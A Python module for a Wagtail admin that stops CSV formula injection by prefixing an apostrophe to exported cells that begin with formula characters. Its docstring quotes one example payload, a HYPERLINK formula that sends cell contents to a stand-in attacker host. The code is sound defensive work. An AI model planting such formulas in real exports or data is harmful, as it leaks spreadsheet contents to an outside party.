"""
CSV exports that a spreadsheet cannot run. A cell that starts with =, +, -, @ (or a tab or
carriage return before one) is read by Excel and LibreOffice as a formula, so a notice
headline such as =HYPERLINK("https://evil.example/?"&A1) would act in an editor's
spreadsheet. Such cells get a leading apostrophe, which spreadsheets show as text.

Every CSV export of the admin (the reports, the listings of viewsets) is Wagtail's
SpreadsheetExportMixin, so the one place is its value preprocessing; install() wraps it
once, at start-up. XLSX exports need nothing: Wagtail already writes formulas as text.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def defuse(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def install():
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "defuses_formulas", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return defuse(value) if export_format == self.FORMAT_CSV else value

    preprocess_field_value.defuses_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
